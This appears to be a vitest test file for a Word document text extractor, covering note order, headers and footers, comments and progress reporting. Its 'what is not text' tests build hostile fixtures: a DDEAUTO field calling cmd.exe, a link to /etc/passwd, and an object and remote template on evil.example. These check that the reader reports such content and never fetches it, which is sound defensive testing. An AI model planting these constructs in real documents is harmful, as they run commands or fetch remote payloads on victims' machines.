import { describe, expect, it } from 'vitest';
import { del, namespaces, noticesOf, p, r, read, texts, word } from './word.js';

const reference = (kind: 'footnote' | 'endnote', id: number): string => `<w:r><w:${kind}Reference w:id="${id}"/></w:r>`;
const note = (kind: 'footnote' | 'endnote', id: number, content: string, type = ''): string =>
  `<w:${kind} w:id="${id}"${type && ` w:type="${type}"`}>${content}</w:${kind}>`;
const margin = (kind: 'hdr' | 'ftr', content: string): string => `<w:${kind} ${namespaces}>${content}</w:${kind}>`;

describe('notes', () => {
  const notes =
    note('footnote', -1, p('separator'), 'separator') +
    note('footnote', 1, p('first') + p('more')) +
    note('footnote', 2, p('second')) +
    note('footnote', 3, p('nobody refers to me'));

  it('follow the body in the order of their references; those without one are left out', () => {
    const document = read({
      body: p(r('a') + reference('footnote', 2) + r(' b') + reference('footnote', 1)),
      footnotes: notes,
      endnotes: '',
    });
    expect(texts(document)).toEqual(['a b', 'second', 'first', 'more']);
    expect(document.blocks.map(({ kind, origin, anchor }) => [kind, origin, anchor])).toEqual([
      ['paragraph', 'body', { part: 'word/document.xml', paragraph: 0 }],
      ['note', 'footnote', { part: 'word/footnotes.xml', paragraph: 3 }],
      ['note', 'footnote', { part: 'word/footnotes.xml', paragraph: 1 }],
      ['note', 'footnote', { part: 'word/footnotes.xml', paragraph: 2 }],
    ]);
  });

  it('go with a deleted reference', () => {
    const body = p(`${r('a')}<w:del w:id="1" w:author="A">${reference('footnote', 2)}</w:del>`);
    expect(texts(read({ body, footnotes: notes }))).toEqual(['a']);
    expect(texts(read({ body, footnotes: notes }, { changes: 'original' }))).toEqual(['a', 'second']);
  });

  it('at the end follow those at the foot', () => {
    const body = p(r('a') + reference('endnote', 1) + reference('footnote', 2));
    expect(read({ body, footnotes: notes, endnotes: note('endnote', 1, p('end')) }).blocks.map(({ origin }) => origin)).toEqual([
      'body',
      'footnote',
      'endnote',
    ]);
  });

  it('that are damaged make the document partial', () => {
    const document = read({ body: p(r('a') + reference('footnote', 1)), footnotes: '<w:footnote' });
    expect([document.status, document.text]).toEqual(['partial', 'a']);
    expect(noticesOf(document, 'not-read')).toHaveLength(1);
  });
});

describe('headers and footers', () => {
  it('come last, each distinct text once', () => {
    const references = ['h1', 'h2', 'h3'].map((id) => `<w:headerReference w:type="default" r:id="${id}"/>`).join('');
    const document = read({
      body: `${p('body')}<w:sectPr>${references}<w:footerReference w:type="default" r:id="f"/></w:sectPr>`,
      relations: { h1: ['header', 'h1.xml'], h2: ['header', 'h2.xml'], h3: ['header', 'h3.xml'], f: ['footer', 'f.xml'] },
      more: {
        'h1.xml': margin('hdr', p('Confidential')),
        'h2.xml': margin('hdr', p('Confidential')),
        'h3.xml': margin('hdr', p('Draft')),
        'f.xml': margin('ftr', p('Page 1')),
      },
    });
    expect(document.blocks.map(({ start, end, origin, anchor }) => [document.text.slice(start, end), origin, anchor?.part])).toEqual([
      ['body', 'body', 'word/document.xml'],
      ['Confidential', 'header', 'word/h1.xml'],
      ['Draft', 'header', 'word/h3.xml'],
      ['Page 1', 'footer', 'word/f.xml'],
    ]);
  });
});

describe('what is not text', () => {
  it('is counted: comments', () => {
    const comments = `<w:comment w:id="0" w:author="A">${p('Please check')}</w:comment><w:comment w:id="1" w:author="A">${p('Done')}</w:comment>`;
    const document = read({ body: p('a'), comments });
    expect(document.text).toBe('a');
    expect(noticesOf(document, 'comments')[0]?.message).toContain('2 comments');
  });

  it('is reported: macros, objects, controls, DDE fields', () => {
    const dde = '<w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/>';
    const document = read({
      body: p(
        `${r('a')}<w:r><w:object><o:OLEObject r:id="o"/></w:object></w:r><w:r><w:object><w:control r:id="c"/></w:object></w:r>${dde}`,
      ),
      relations: { v: ['vbaProject', 'vbaProject.bin'] },
    });
    expect(noticesOf(document, 'active-content')).toHaveLength(4);
    expect(document.status).toBe('reviewed');
  });

  it('is reported and never fetched: templates, pictures and objects outside the file', () => {
    const document = read({
      body: p('<w:r><w:t>a</w:t><w:drawing><a:blip r:link="i"/></w:drawing></w:r>'),
      relations: { i: ['image', 'external:file:///etc/passwd'], o: ['oleObject', 'external:http://evil.example/'] },
      settings: '<w:attachedTemplate r:id="t"/>',
      more: {
        '_rels/settings.xml.rels':
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
      },
    });
    expect(noticesOf(document, 'external-link').map(({ message }) => message)).toEqual([
      expect.stringContaining('a picture'),
      expect.stringContaining('a linked object'),
      expect.stringContaining('a template'),
    ]);
  });

  it.each([
    ['an embedded document', '<w:altChunk r:id="x"/>'],
    ['a subdocument', p('<w:subDoc r:id="x"/>')],
    ['text inside elements that Word does not define', `<x:wrap xmlns:x="urn:x">${p('lost')}</x:wrap>`],
    ['text outside any paragraph', '<w:r><w:t>lost</w:t></w:r>'],
    ['text inside a drawing', p('<w:r><w:drawing><a:t>lost</a:t></w:drawing></w:r>')],
  ])('makes the document partial: %s', (what, body) => {
    const document = read(p('a') + body);
    expect(document.status).toBe('partial');
    expect(noticesOf(document, 'not-read')[0]?.message).toContain(what);
  });

  it('leaves documents without words as no-text', () => {
    expect(read(p('')).status).toBe('no-text');
    expect(read(p('<w:r><w:drawing><a:blip r:embed="i"/></w:drawing></w:r>')).notices[0]?.message).toContain('text recognition');
    expect(read(p(del('all gone'))).status).toBe('no-text');
  });
});

describe('progress', () => {
  it('is told part by part', () => {
    const steps: [number, number][] = [];
    const parts = { body: p(r('a') + reference('footnote', 1)), footnotes: note('footnote', 1, p('n')) };
    read(parts, { onProgress: (done, total) => steps.push([done, total]) });
    expect(steps).toEqual([
      [1, 2],
      [2, 2],
    ]);
    expect(word(parts).length).toBeGreaterThan(0);
  });
});
